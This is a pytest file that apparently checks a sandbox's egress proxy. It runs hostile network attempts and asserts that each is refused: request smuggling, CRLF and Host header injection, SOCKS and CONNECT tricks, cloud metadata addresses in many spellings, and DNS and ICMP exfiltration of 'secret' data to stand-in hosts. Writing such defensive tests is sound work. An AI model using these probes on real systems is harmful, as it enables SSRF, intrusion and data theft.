"""Every row of egress.tsv, and group H of hostile.tsv: what a task tries of a network.

Each row is run in a box on a host with a network of the test's own (tests/run/hostnet.py), through
the captured connections and at the door for proxies, and held against what that host's resolver and
servers saw. Where tests/run has a row already, it is named here, and has to be there.
"""
import csv
import re
import subprocess
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "run"))

from boxed import BAWN  # noqa: E402
from hostnet import METADATA, OTHER, PRIVATE, PUBLIC, is_possible  # noqa: E402
from test_egress import DIRECT, LIMIT_S, _host, _place, run  # noqa: E402

from test_attack import case  # noqa: E402

__all__ = ["_host", "_place"]

HERE = Path(__file__).resolve().parent
RUN = HERE.parent / "run"
pytestmark = pytest.mark.skipif(not is_possible(), reason="no unshare, ip, openssl or git")

# Says these bytes at the door, one piece after the other's answer, and shows what came.
DOOR = """
import socket
end = socket.create_connection(("198.18.255.253", 3128), 9)
end.settimeout(9)
try:
    for piece in %r:
        end.sendall(piece)
        print(end.recv(4096))
except OSError as error:
    print(error)
"""


def quoted(program):
    return "python3 - <<'END'\n" + program + "END\n"


def at_door(*pieces):
    return quoted(DOOR % (pieces,))


def connect(target, *pieces):
    return at_door(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n\r\n", *pieces)


def socks(kind, address, verb=1):
    return at_door(b"\x05\x01\x00", b"\x05" + bytes([verb]) + b"\x00" + bytes([kind]) + address +
                   b"\x00\x50")


def by_name(name):
    return socks(3, bytes([len(name)]) + name)


def url(text):
    """As a program asks that heeds proxies, and as one that does not."""
    return f"curl -s -m 9 '{text}'; " + DIRECT + f"curl -s -m 9 '{text}'; "


def literal(number):
    """As libraries take it that know more forms of numbers than a rule does."""
    return url(f"http://{number}/") + f"(exec 3<>/dev/tcp/{number}/80; echo GET >&3; cat <&3); " + \
        connect(number.encode() + b":80") + by_name(number.encode())


TLS = "openssl s_client %s -connect pub.example:443 </dev/null 2>&1; "
SOCKETS = f"""
import socket
for family, kind, protocol, data in ((2, 1, 262, b""), (2, 1, 132, b""), (2, 5, 132, b""),
                                     (2, 1, 0, b"GET / HTTP/1.0\\r\\n\\r\\n")):
    try:
        end = socket.socket(family, kind, protocol)
        end.settimeout(5)
        if data:
            end.sendto(data, 0x20000000, ("{OTHER}", 80))
        else:
            end.connect(("{OTHER}", 80))
            end.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print(end.recv(99))
    except OSError as error:
        print(error)
"""
DATAGRAM = """
import socket
for address in ("8.8.8.8", "198.18.255.252"):
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    end.settimeout(3)
    query = bytes.fromhex("123401000001000000000000") + b"".join(
        bytes([len(label)]) + label for label in b"c2VjcmV0.other.example".split(b"."))
    try:
        end.sendto(query + b"\\0\\0" + bytes([%d]) + b"\\0\\1", (address, 53))
        print(end.recv(512))
    except OSError as error:
        print(error)
"""
ECHO = """
import socket
for kind, protocol in ((socket.SOCK_DGRAM, 1), (socket.SOCK_RAW, 1)):
    try:
        end = socket.socket(socket.AF_INET, kind, protocol)
        end.sendto(b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0secret", ("93.184.216.34", 0))
        print("sent")
    except OSError as error:
        print(error)
"""
PUB = ["pub.example:80", "pub.example:443"]
# What a row does, with these hosts allowed; what the upstream may be told all the same.
ROWS = {
    "E01": ([], url("http://pub.example/") + connect(b"pub.example:443")),
    "E02": (["*.pub.example"], by_name(b"other.example\0.pub.example") +
            connect(b"other.example\0.pub.example:443")),
    "E03": (["*.pub.example"], url("http://pub.example/") + connect(b"pub.example:443")),
    "E04": (["*.pub.example"], url("http://evilpub.example/") + connect(b"evilpub.example:443")),
    "E05": (PUB, connect(b"pub.example:22", b"SSH-2.0-x\r\n") + DIRECT +
            "(exec 3<>/dev/tcp/pub.example/22; timeout 5 cat <&3); "),
    "E06": (PUB, connect(b"pub.example@other.example:443") +
            connect(b"pub.example:80@other.example:80") + url("http://pub.example@other.example/")),
    "E07": (PUB, connect(b"other.example\\@pub.example") +
            connect(b"other.example\\@pub.example:443")),
    "E08": (PUB, at_door(b"CONNECT pub.example:443\r\nHost: other.example HTTP/1.1\r\n\r\n") +
            at_door(b"CONNECT pub.example%0d%0aHost:other.example:443 HTTP/1.1\r\n\r\n") +
            by_name(b"pub.example\r\nHost: other.example")),
    "E09": (PUB, "curl -sk -m 9 --connect-to other.example:443:pub.example:443 "
            "https://other.example/; " + DIRECT + TLS % "-servername other.example"),
    "E10": (PUB, DIRECT + TLS % "-noservername"),
    "E11": (PUB, DIRECT + "exec 3<>/dev/tcp/pub.example/80; printf 'GET /first HTTP/1.1\\r\\n"
            "Host: pub.example\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n"
            "Host: other.example\\r\\n\\r\\n' >&3; timeout 5 cat <&3; "),
    "E12": (PUB, DIRECT + "exec 3<>/dev/tcp/pub.example/80; printf 'POST / HTTP/1.1\\r\\nHost: "
            "pub.example\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
            "0\\r\\n\\r\\n"
            "GET /smuggled HTTP/1.1\\r\\n\\r\\n' >&3; timeout 5 cat <&3; "),
    "E13": (["loop.example"], url("http://loop.example/")),
    "E14": (["meta.example"], url("http://meta.example/")),
    "E15": (["mixed.example"], url("http://mixed.example/")),
    "E16": (PUB, literal("0x0a010203") + literal("167838211")),
    "E17": (PUB, literal("0177.0.0.1")),
    "E18": (PUB, literal("127.1")),
    "E19": (PUB, url("http://[::127.0.0.1]/") + connect(b"[::127.0.0.1]:80")),
    "E20": (PUB, url("http://[64:ff9b::7f00:1]/") + connect(b"[64:ff9b::7f00:1]:80")),
    "E21": (PUB, literal("0.0.0.0") + literal("0")),
    "E22": (PUB, url("http://localhost./") + connect(b"localhost.:80") + by_name(b"LOCALHOST")),
    "E23": (PUB, url("http://[::1%25lo]/") + connect(b"[::1%lo]:80") + by_name(b"::1%lo")),
    "E24": (PUB, url("http://[0:0:0:0:0:0:0:1]/") + connect(b"[0:0:0:0:0:0:0:1]:80") +
            socks(4, bytes(15) + b"\x01")),
    "E25": (PUB, url("http://169.254.169.254.nip.io/") + connect(b"169.254.169.254.nip.io:80")),
    "E26": (PUB, url("http://[fe80::a9fe:a9fe]/") + connect(b"[fe80::a9fe:a9fe]:80")),
    "E27": (PUB, quoted(DATAGRAM % 1)),
    "E28": (PUB, quoted(DATAGRAM % 16)),
    "E29": (PUB, quoted(ECHO)),
    "E30": (PUB, quoted(SOCKETS)),
    "E31": (PUB, socks(3, b"\x0bpub.example", 2) + socks(3, b"\x0bpub.example", 3)),
    "E32": (PUB, connect(b"198.18.255.253:3128") + connect(b"127.0.0.1:3128") +
            url("http://198.18.255.253:3128/")),
    "E33": (PUB, "find / -type s -path '*bawn*' 2>/dev/null; ls -a /run/user/*/bawn /root/.local "
            "2>/dev/null; " + url("http://198.18.255.254/") + connect(b"198.18.255.254:3128")),
    "E35": (PUB, "export no_proxy='*' NO_PROXY='*' http_proxy= ALL_PROXY=direct; "
            "curl -s -m 9 http://other.example/; "
            "curl -s -m 9 --noproxy '*' http://other.example/; "),
}
# What a request before the refused one was allowed to be.
TOLD = {"E11": ["GET /first HTTP/1.1"]}
# A yes of a door: an answer to CONNECT or SOCKS that lets bytes through.
YES = re.compile(r"HTTP/1\.1 200|\\x05\\x00\\x00[^'\"]")


def load(name):
    with open(HERE / name, newline="", encoding="utf-8") as file:
        return {row["id"]: row for row in csv.DictReader(file, delimiter="\t",
                                                         quoting=csv.QUOTE_NONE)}


def test_what_is_allowed_passes(host, place):
    """The ways of the rows, where nothing is wrong with what is sent: none of them is deaf."""
    request = b"GET /x HTTP/1.0\r\nHost: pub.example\r\n\r\n"
    ways = [url("http://pub.example/x"), connect(b"pub.example:80", request),
            at_door(b"\x05\x01\x00", b"\x05\x01\x00\x03\x0bpub.example\x00\x50", request)]
    for way in ways:
        ran = run(host, place, PUB, way)
        assert f"upstream {PUBLIC}:80 GET /x" in ran.out and ran.payload, ran
        assert way is ways[0] or YES.search(ran.out), ran


@pytest.mark.parametrize("id_", ROWS)
def test_row(host, place, id_):
    allow, script = ROWS[id_]
    ran = run(host, place, allow, script + "exit 3")
    requests = [one["line"] for one in ran.seen if one["kind"] == "request"]
    foreign = ran.asked - {name.split(":")[0] for name in allow}
    inside = id_ in ("E09", "E10", "E11", "E12")
    assert ran.status == 3, ran
    assert requests == TOLD.get(id_, []), ran
    assert not foreign, ran
    assert inside or not ran.connected, ran
    assert inside or not YES.search(ran.out), ran
    assert ran.payload == 0 or id_ in TOLD, ran


def test_another_tasks_door(host, place):
    """E34: what one task may is nothing to another one, whatever it says of itself."""
    def verb(*words):
        return subprocess.run([*host.prefix[:-1], f"--wdns={place.work}", BAWN, "task", words[0],
                               *place.options, *words[1:]], stdin=subprocess.DEVNULL, check=True,
                              capture_output=True, text=True, timeout=LIMIT_S).stdout
    task = verb("start", "--allow-host", "other.example:80").strip()
    try:
        script = connect(b"other.example:80") + at_door(
            b"GET http://other.example/ HTTP/1.1\r\nHost: other.example\r\nX-Task: " +
            task.encode() + b"\r\nProxy-Authorization: Basic " + task.encode() + b"\r\n\r\n")
        ran = run(host, place, PUB, script + "exit 3")
        assert ran.status == 3 and not ran.seen and "upstream" not in ran.out, ran
        assert "upstream" in verb("exec", task, "--", "curl", "-s", "http://other.example/")
    finally:
        verb("end", task)


SPELLINGS = [METADATA, "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
             f"[::ffff:{METADATA}]", "[::ffff:a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]",
             "[fd00:ec2::254]", "[fd00:c1::a9fe:a9fe]", "[fd00:a9fe:a9fe::1]", "100.100.100.200",
             "168.63.129.16", "metadata.google.internal", "METADATA.google.internal.",
             "instance-data.ec2.internal", "kubernetes.default.svc"]


def test_HH01_metadata_by_every_spelling(host, place):
    """Refused, and on record."""
    script = "".join(url(f"http://{name}/latest/") for name in SPELLINGS)
    ran = run(host, place, ["pub.example:80"], script + "exit 3", limit=120)
    case("HH01", "spellings of metadata services", ran.status == 3 and not ran.seen and
         "upstream" not in ran.out, ran.out, "egress")
    objects = [words[1] for words in ran.denials]
    for name in (METADATA, "[fd00:c1::a9fe:a9fe]", "metadata.google.internal"):
        assert f"{name}:80" in objects, ran
    assert {words[0] for words in ran.denials} <= {"net.special", "net.host", "net.content"}, ran


def test_HH14_services_of_the_host(host, place):
    """Its loopback and its own network, with their ports allowed of another name."""
    script = "".join(url(f"http://{name}/") + connect(f"{name}:80".encode()) for name in
                     ("127.0.0.1", "localhost", "loop.example", PRIVATE, "private.example",
                      "host.docker.internal", "[::1]"))
    ran = run(host, place, ["pub.example:80"], script + "exit 3")
    case("HH14", "services of the host", ran.status == 3 and not ran.seen and
         "upstream" not in ran.out and not YES.search(ran.out), ran.out, "egress")


# Rows of hostile.tsv that tests of tests/run show: file, function.
SHOWN = {
    "HH02": [("test_network_rules", "test_an_empty_list_allows_nothing"),
             ("test_network_rules", "test_a_broken_list_is_a_fault_of_the_file"),
             ("test_network_rules", "test_what_is_malformed_is_refused"),
             ("test_network_rules", "test_without_a_rule_nothing_is_allowed")],
    "HH03": [("test_proxy", "test_hostile_words_at_the_door")],
    "HH04": [("test_egress_roles", "test_killed_role"),
             ("test_egress_roles", "test_lie_ends_the_network"),
             ("test_proxy", "test_killed_in_the_middle_of_a_body")],
    "HH05": [("test_egress", "test_denied"), ("test_egress_clients", "test_no_proxy"),
             ("test_egress", "test_verify")],
    "HH06": [("test_proxy", "test_names"), ("test_dialer", "test_what_is_denied_is_not_asked_for")],
    "HH07": [("test_egress_clients", "test_rebinding"),
             ("test_egress_clients", "test_mixed_answers"),
             ("test_egress", "test_what_opens_a_private_service_opens_no_more"),
             ("test_dialer", "test_addresses_that_no_rule_names_are_not_dialled")],
    "HH09": [("test_proxy", "test_each_request_is_judged"),
             ("test_egress_clients", "test_smuggling"), ("test_egress_clients", "test_websocket"),
             ("test_proxy", "test_interim_responses_and_upgrades")],
    "HH10": [("test_proxy", "test_connect"), ("test_proxy", "test_hostile_words_at_the_door")],
    "HH13": [("test_proxy", "test_many_idle_and_slow"), ("test_proxy", "test_descriptors_run_out"),
             ("test_proxy", "test_floods_are_one_record"),
             ("test_egress_roles", "test_flood_is_counted")],
}
PENDING_ROWS = {
    "HH11": "no credential is given to a task yet: there is none to see, inject or leak; it comes "
            "with the broker of credentials",
}


@pytest.mark.parametrize("id_", sorted(PENDING_ROWS))
def test_pending_rows(id_):
    pytest.skip(f"{id_} pending: {PENDING_ROWS[id_]}")


def test_every_row_of_the_network_is_tried():
    assert set(load("egress.tsv")) == set(ROWS) | {"E34"}
    rows = {id_ for id_ in load("hostile.tsv") if id_.startswith("HH")}
    assert rows == set(SHOWN) | set(PENDING_ROWS) | {"HH01", "HH14"}
    for id_, tests in SHOWN.items():
        for file, function in tests:
            text = (RUN / f"{file}.py").read_text(encoding="utf-8")
            assert f"\ndef {function}(" in text, (id_, file, function)
